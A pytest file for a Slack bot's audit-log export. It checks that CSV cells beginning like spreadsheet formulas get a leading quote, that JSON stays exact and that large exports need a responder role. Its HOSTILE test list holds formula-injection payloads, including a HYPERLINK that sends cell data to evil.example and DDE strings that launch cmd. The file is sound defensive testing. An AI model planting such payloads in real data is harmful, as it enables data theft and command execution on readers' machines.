"""/audit export as an attacker would feed it: formulas in audit_log neutralised in CSV, JSON exact;
large exports from Slack need the responder role (real PostgreSQL, the bot's Slack wiring)."""

from __future__ import annotations

import csv
import io
import json
import uuid
from collections.abc import AsyncIterator
from typing import Any

import asyncpg
import httpx
import pytest

from adapters.postgres import PostgresAdapter
from bot.registry import COMMANDS
from commands.audit import AuditExport, ExportRequest, Limits, parse
from commands.audit_export import COLUMNS, CSV_NOTE, export
from sandbox.platform_db import BRUTE_FORCE_USERNAME
from tests.audit_fixtures import (  # noqa: F401  (fixtures are found by their names)
    audit_db_fixture,
    audit_dsn_fixture,
    running_bot,
)
from tests.conftest import SIGNING_SECRET, make_settings
from tests.fakes import FakeSlack, signed_slash_command_request

CHANNEL = "C0INCIDENT"
VIEWER = "U0VIEWER01"
RESPONDER = "U0RESPOND1"
MARKER = uuid.UUID("00000000-0000-4000-8000-0000000f0a11")
# What an attacker puts where the platform logs what they send (username, action, user agent).
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '=1,"2"\r\n=3',  # a formula with the CSV's own separators in it
]
HARMLESS = ["alice", "a=b", " =1+1", "'=already quoted", ""]
# OWASP's list: a cell starting with one of these is a formula to a spreadsheet.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
async def hostile_rows(audit_dsn: str) -> AsyncIterator[list[tuple[str, str, Any]]]:
    """Insert (action, username, details) rows an attacker shaped; remove them afterwards."""
    rows: list[tuple[str, str, Any]] = [
        *((text, text, {"user_agent": text}) for text in HOSTILE + HARMLESS),
        ("LOGIN", "bob", -5),  # a JSON number: the only JSON text that can start like a formula
        ("LOGIN", "bob", "=1+1"),  # a JSON string starts with its quote: not a formula
    ]
    conn = await asyncpg.connect(audit_dsn)
    try:
        await conn.executemany(
            """INSERT INTO audit_log (action, user_id, username, ip_address, details)
               VALUES ($1, $2, $3, '2001:db8::66', $4::jsonb)""",
            [(action, MARKER, username, json.dumps(details)) for action, username, details in rows],
        )
        yield rows
    finally:
        await conn.execute("DELETE FROM audit_log WHERE user_id = $1", MARKER)
        await conn.close()


async def run_export(db: PostgresAdapter, fmt: str) -> tuple[AuditExport, bytes]:
    request = parse(["export", fmt, f"user={MARKER}", "since=1d"], Limits(export_max_rows=1_000_000))
    assert isinstance(request, ExportRequest)
    sink = io.BytesIO()
    result = await export(db, request, sink, statement_timeout=5.0, destination="test")
    assert isinstance(result, AuditExport), result
    return result, sink.getvalue()


def neutral(text: str) -> str:
    """What the CSV cell holds for a stored text: OWASP's leading quote before a formula."""
    return "'" + text if text[:1] in FORMULA_STARTS else text


# --- formulas in CSV ---------------------------------------------------------------------------------


async def test_csv_cells_that_start_like_formulas_get_a_leading_quote(
    audit_db: PostgresAdapter, hostile_rows: list[tuple[str, str, Any]]
) -> None:
    result, data = await run_export(audit_db, "csv")
    reader = csv.reader(io.StringIO(data.decode("utf-8"), newline=""))
    assert next(reader) == list(COLUMNS)
    cells = [dict(zip(COLUMNS, row, strict=True)) for row in reader]
    assert len(cells) == len(hostile_rows) == result.rows
    for cell, (action, username, details) in zip(cells, hostile_rows, strict=True):
        assert cell["action"] == neutral(action)
        assert cell["username"] == neutral(username)
        assert cell["details"] == neutral(json.dumps(details, separators=(", ", ": ")))
    # No cell of the file starts a formula; the harmless ones are as stored.
    every = [value for cell in cells for value in cell.values()]
    assert not [value for value in every if value[:1] in FORMULA_STARTS]
    assert {cell["username"] for cell in cells} >= set(HARMLESS)
    assert [cell["details"] for cell in cells][-2:] == ["'-5", '"=1+1"']
    assert result.note == CSV_NOTE and "begin with '" in CSV_NOTE


async def test_json_keeps_every_value_exact(
    audit_db: PostgresAdapter, hostile_rows: list[tuple[str, str, Any]]
) -> None:
    result, data = await run_export(audit_db, "json")
    items = json.loads(data)
    assert [(item["action"], item["username"], item["details"]) for item in items] == hostile_rows
    assert result.note is None


# --- large exports need the responder role -----------------------------------------------------------


async def post_audit(url: str, text: str, user: str) -> None:
    body, headers = signed_slash_command_request(
        SIGNING_SECRET, command="/audit", text=text, user_id=user, channel_id=CHANNEL
    )
    async with httpx.AsyncClient(timeout=10) as client:
        assert (await client.post(f"{url}/slack/events", content=body, headers=headers)).status_code == 200


EXPORT = f"export csv user {BRUTE_FORCE_USERNAME} since=3d"


async def test_a_viewer_is_refused_a_large_export_and_told_how_to_ask(
    fake_slack: FakeSlack, audit_dsn: str
) -> None:
    async with running_bot(fake_slack, audit_dsn, viewers=["*"], responders=[RESPONDER]) as url:
        await post_audit(url, EXPORT, VIEWER)
        refusal = await fake_slack.wait_for_call_async("chat.postEphemeral", timeout=20)
        await post_audit(url, f"{EXPORT} limit=20000", VIEWER)
        second = await fake_slack.wait_for_call_async(
            "chat.postEphemeral",
            lambda call: call is not refusal and "20,000" in call.params["text"],
            timeout=20,
        )
    text = refusal.params["text"]
    assert refusal.params["user"] == VIEWER
    assert (
        "you are not allowed to run /audit: an export of up to 1,000,000 rows needs the responder role"
        in text
    )
    assert "rows are not counted first" in text and "add limit=10000" in text
    assert "an export of up to 20,000 rows needs the responder role" in second.params["text"]
    assert (
        fake_slack.calls_to("chat.postMessage") == []
        and fake_slack.calls_to("files.getUploadURLExternal") == []
    )


@pytest.mark.parametrize(
    ("user", "text"),
    [
        (VIEWER, f"{EXPORT} limit=10000"),  # at most the setting: a viewer's
        (RESPONDER, EXPORT),  # up to CHATOPS_AUDIT_EXPORT_MAX_ROWS: a responder's
    ],
)
async def test_an_export_within_the_callers_role_is_served_with_its_note(
    fake_slack: FakeSlack, audit_dsn: str, user: str, text: str
) -> None:
    async with running_bot(fake_slack, audit_dsn, viewers=["*"], responders=[RESPONDER]) as url:
        await post_audit(url, text, user)
        await fake_slack.wait_for_call_async("files.completeUploadExternal", timeout=20)
    [main] = fake_slack.calls_to("chat.postMessage")
    assert "Audit export" in main.params["text"]
    assert "no spreadsheet runs them as formulas" in json.dumps(main.params["blocks"])
    assert fake_slack.calls_to("chat.postEphemeral") == []


async def test_a_viewer_still_reads_the_forms(fake_slack: FakeSlack, audit_dsn: str) -> None:
    async with running_bot(fake_slack, audit_dsn, viewers=["*"], responders=[RESPONDER]) as url:
        await post_audit(url, f"user {BRUTE_FORCE_USERNAME} limit=5", VIEWER)
        posted = await fake_slack.wait_for_call_async("chat.postMessage", timeout=20)
    assert f"user {BRUTE_FORCE_USERNAME}" in posted.params["text"]


@pytest.mark.parametrize(
    ("settings", "text", "role"),
    [
        ({}, "export csv limit=10000", "viewer"),
        ({}, "export csv limit=10001", "responder"),
        ({}, "export json", "responder"),
        ({}, "security limit=200", "viewer"),
        ({"audit_export_large_rows": 0}, "export csv limit=1", "responder"),
        ({"audit_export_large_role": "operator"}, "export csv", "operator"),
        ({"audit_export_large_role": "viewer"}, "export csv", "viewer"),
        ({"audit_export_max_rows": 5000}, "export csv", "viewer"),  # the default limit is small enough
    ],
)
def test_the_settings_decide_the_role_of_an_export(settings: dict[str, Any], text: str, role: str) -> None:
    spec = COMMANDS["audit"]
    assert spec.requirement(spec.tokenize(text), make_settings(**settings)).role == role
